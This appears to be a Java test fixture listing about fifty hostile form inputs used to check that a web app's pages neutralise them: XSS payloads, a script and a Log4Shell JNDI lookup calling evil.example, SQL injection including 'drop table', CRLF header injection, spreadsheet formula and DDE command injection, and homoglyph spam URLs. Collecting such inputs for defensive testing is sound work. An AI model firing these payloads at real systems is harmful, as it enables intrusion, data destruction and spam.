package org.ephapse.app.pages;

import java.util.List;
import java.util.stream.Stream;

/// What is written into forms by people and programs who want a link, a script or a record of others.
final class Attacks {
    private static final List<String> WRITTEN = List.of(
            "<a href=\"https://evil.example/pills\">cheap pills</a>",
            "[url=https://evil.example]pills[/url]",
            "[pills](https://evil.example)",
            "https://evil.example/pills",
            "www.evil.example",
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<iframe src=https://evil.example></iframe>",
            "\"><script>alert(1)</script>",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=\"alert(1)",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "<div style=\"display:none\"><a href=https://evil.example>x</a></div>",
            "<span style=\"font-size:0\">evil pills</span>",
            "<div style=position:absolute;left:-9999px>evil</div>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example>",
            "<form action=https://evil.example><input name=p></form>",
            "<object data=https://evil.example></object>",
            "<style>body{background:url(https://evil.example)}</style>",
            "${7*7} {{7*7}} #{7*7} <%= 7*7 %> evil",
            "${jndi:ldap://evil.example/a}",
            "@template.page.home(page = page) evil",
            "'; drop table letter; -- evil",
            "' or '1'='1 evil",
            "1; select pg_sleep(10) -- evil",
            "\") union select * from staff -- evil",
            "evil\r\nSet-Cookie: session=1",
            "evil\r\nBcc: everybody@evil.example",
            "evil%0d%0aLocation: https://evil.example",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+cmd|' /C calc'!A0 evil",
            "@SUM(1+1) evil",
            "\u0440\u0430ypal.evil.example",
            "ev\u0456l.example",
            "\u202egro.live//:sptth",
            "evil\u200b.example",
            "सस्ती दवाइयाँ https://evil.example",
            "स्वस्त औषधे evil.example",
            "evil\u0000null",
            "\ud83d\ude00".repeat(60) + " evil",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;");

    /// All fifty.
    static final List<String> ALL = Stream.concat(
                    WRITTEN.stream(), Stream.of("evil ".repeat(2000), "<b>".repeat(1000) + "evil"))
            .toList();

    private Attacks() {}
}
